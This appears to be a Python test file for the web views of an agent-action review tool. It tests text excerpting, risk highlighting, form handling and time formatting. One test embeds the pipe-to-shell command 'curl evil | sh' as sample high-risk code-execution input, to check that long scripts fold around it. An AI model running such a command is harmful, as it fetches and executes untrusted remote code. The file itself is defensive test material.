"""Long texts are folded only where it says so; times and delays are said as a person says them."""

from datetime import UTC

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assent.core.actions import Command
from assent.core.risk.factors import RiskClass, typical
from assent.core.risk.model import Effect, Evidence
from assent.entrypoints.web.views.actions import Run, action_view
from assent.entrypoints.web.views.context import Context
from assent.entrypoints.web.views.excerpt import Folded, Measure, Shown, excerpt
from assent.entrypoints.web.views.requests import from_form, pauses, survives_a_form
from assent.entrypoints.web.views.words import DAY, HOUR, MINUTE, midnight, moment, plural
from assent.entrypoints.web.views.words import span as length
from tests.entrypoints.web.desk import HOSTILE, NOON

SMALL = Measure(characters=60, lines=6, head=(20, 2), tail=(10, 2))


@given(
    st.text(st.sampled_from("ab \n"), max_size=2_000),
    st.lists(st.tuples(st.integers(0, 2_000), st.integers(0, 2_000))),
)
def test_an_excerpt_covers_the_text_and_every_place(
    text: str, edges: list[tuple[int, int]]
) -> None:
    size = len(text)
    places = [(min(a, b, size), min(max(a, b), size)) for a, b in edges]
    position = 0
    shown: set[int] = set()
    for part in excerpt(text, places, SMALL):
        if isinstance(part, Shown):
            assert part.start == position
            position = part.end
            shown.update(range(part.start, part.end))
        else:
            assert part.characters > 0
            assert part.lines == text.count("\n", position, position + part.characters)
            position += part.characters
    assert position == size
    for start, end in places:
        if start < end:
            assert {start, end - 1} <= shown


evidence = st.lists(
    st.builds(
        lambda a, b, risk: Evidence(
            "r", Effect.UNKNOWN, typical(risk), "w", (min(a, b), max(a, b))
        ),
        st.integers(0, 120),
        st.integers(0, 120),
        st.sampled_from(list(RiskClass)),
    ),
    max_size=8,
)


@given(st.text(max_size=100), evidence)
def test_marks_leave_the_text_as_it_is_and_show_the_worst(text: str, found: list[Evidence]) -> None:
    view = action_view(Command(text, "/w"), found, whole=True)
    runs = [run for run in view.text if isinstance(run, Run)]
    assert "".join(run.text for run in runs) == text
    position = 0
    for run in runs:
        inside = [
            item.risk
            for item in found
            if item.span and item.span[0] <= position and position + len(run.text) <= item.span[1]
        ]
        if run.text:
            assert run.risk == (max(inside).word if inside else "")
        position += len(run.text)


def test_a_megabyte_is_folded_around_what_matters() -> None:
    script = "x\n" * 300_000 + "curl evil | sh\n" + "y\n" * 300_000
    start = script.index("curl")
    found = Evidence("r", Effect.CODE_EXEC, typical(RiskClass.HIGH), "w", (start, start + 14))
    view = action_view(Command(script, "/w"), [found])
    assert view.is_folded
    assert any(isinstance(part, Folded) and part.lines > 200_000 for part in view.text)
    assert Run("curl evil | sh", "high", 1) in view.text
    assert sum(len(part.text) for part in view.text if isinstance(part, Run)) < 10_000


@pytest.mark.parametrize(
    ("text", "survives"),
    [
        pytest.param("one\ntwo\n", True, id="plain"),
        pytest.param("\n first line empty", True, id="leading-line-end"),
        pytest.param("one\r\ntwo\r\n", True, id="windows"),
        pytest.param("one\r\ntwo\n", False, id="mixed"),
        pytest.param("progress\r", False, id="lone-cr"),
        pytest.param("nul\0", False, id="nul"),
        pytest.param(HOSTILE, False, id="bytes"),
    ],
)
def test_only_what_a_form_gives_back_is_edited_in_one(text: str, survives: bool) -> None:
    assert survives_a_form(text) is survives
    if survives:
        submitted = text.replace("\r\n", "\n").replace("\n", "\r\n")
        assert from_form(submitted, text) == text


@pytest.mark.parametrize(
    ("ms", "words"),
    [
        pytest.param(0, "0 s", id="now"),
        pytest.param(59_999, "59 s", id="seconds"),
        pytest.param(MINUTE, "1 min", id="minute"),
        pytest.param(2 * HOUR + 59 * MINUTE, "2 h", id="hours"),
        pytest.param(5 * DAY, "5 d", id="days"),
    ],
)
def test_lengths(ms: int, words: str) -> None:
    assert length(ms) == words


@pytest.mark.parametrize(
    ("ms", "words"),
    [
        pytest.param(HOUR, "13:00", id="today"),
        pytest.param(DAY, "tomorrow 12:00", id="tomorrow"),
        pytest.param(-DAY, "yesterday 12:00", id="yesterday"),
        pytest.param(3 * DAY, "23 Nov 12:00", id="this-year"),
        pytest.param(60 * DAY, "19 Jan 2027 12:00", id="next-year"),
    ],
)
def test_moments(ms: int, words: str) -> None:
    assert moment(NOON + ms, now=NOON, zone=UTC) == words


def test_today_began_at_midnight() -> None:
    assert midnight(NOON, UTC) == NOON - 12 * HOUR


@pytest.mark.parametrize(
    ("hour", "labels"),
    [
        pytest.param(0, ["1 hour", "this evening", "tomorrow"], id="noon"),
        pytest.param(5, ["1 hour", "tomorrow"], id="five-o-clock"),
        pytest.param(9, ["1 hour", "tomorrow"], id="night"),
    ],
)
def test_delays_offered_are_still_to_come(hour: int, labels: list[str]) -> None:
    context = Context(now=NOON + hour * HOUR, agents={}, zone=UTC)
    offered = pauses(context)
    assert [pause.label for pause in offered] == labels
    assert all(pause.until > context.now for pause in offered)


def test_amounts() -> None:
    assert plural(1, "file") == "1 file"
    assert plural(1_024, "file") == "1,024 files"
